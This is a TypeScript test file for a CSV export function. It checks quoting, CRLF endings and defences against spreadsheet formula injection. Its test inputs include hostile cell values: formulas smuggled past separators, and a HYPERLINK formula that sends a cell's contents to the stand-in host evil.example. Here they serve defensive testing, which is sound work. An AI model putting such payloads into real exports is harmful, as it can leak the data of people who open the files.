import { toCsv } from './csv.ts';

test('lines end with CRLF after the mark of UTF-8, and every text is quoted', () => {
  const rows = [
    ['School', 'Change'],
    ['Duke', -1],
    ['a "b", c\nd', 2],
  ];
  expect(toCsv(rows)).toBe('\ufeff"School","Change"\r\n"Duke",-1\r\n"a ""b"", c\nd",2\r\n');
});

test.each(['=1+1', '+1', '-1', '@cmd', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠cmd'])(
  'a spreadsheet does not run %j',
  (text) => expect(toCsv([[text]])).toBe(`\ufeff"${text.replace(/\S/, "'$&")}"\r\n`),
);

/** The cells as a spreadsheet reads them. Only at the beginning of a cell does a quotation mark protect separators. */
function cellsOf(csv: string, separator: string): string[] {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|)([^${separator}\r\n]*)(?:[${separator}\r\n]|$)`, 'y');
  const cells: string[] = [];
  while (cell.lastIndex < csv.length) {
    const [, quoted = '', rest = ''] = cell.exec(csv) ?? [];
    cells.push(quoted.replaceAll('""', '"') + rest);
  }
  return cells;
}

const hostile = [
  ';=1+1',
  '|=1+1',
  ';;=1+1',
  '\n\n=1',
  '; "@cmd";x',
  'Hello;=HYPERLINK("http://evil.example/?"&A1,"Open");x',
  'Hello; "=1+1";x',
  'Hello;"-1',
  'Hello;;+1',
  'Hello\n=1+1\nx',
  'Hello\r\n@cmd',
  'Hello\t＝1',
  'Hello|=1|x',
];
test.each(hostile.flatMap((text) => [',', ';', '\t', '|'].map((separator) => [text, separator] as const)))(
  'a spreadsheet does not run a part of %j where the separator is %j',
  (text, separator) => {
    const csv = toCsv([['2026-01-01', 'parent@home.example', text, 7, text]]).slice(1);
    expect(cellsOf(csv, separator).filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
  },
);

// In a text with a sign beyond Latin-1, a search that looked back from each blank took minutes.
test.each([
  [' ', '=1'],
  ['"', '=1'],
  ['\n', "'=1"],
  ['; ', "'=1"],
  ['\t"', "'=1"],
])('a text of many %j is read in one pass', (blank, end) => {
  const text = `–${blank.repeat(500_000 / blank.length)}=1`;
  const before = process.cpuUsage();
  expect(toCsv([[text]]).endsWith(`${blank.replace('"', '""')}${end}"\r\n`)).toBe(true);
  // Of processor time, in microseconds, however busy the machine is.
  expect(process.cpuUsage(before).user).toBeLessThan(10_000_000);
});
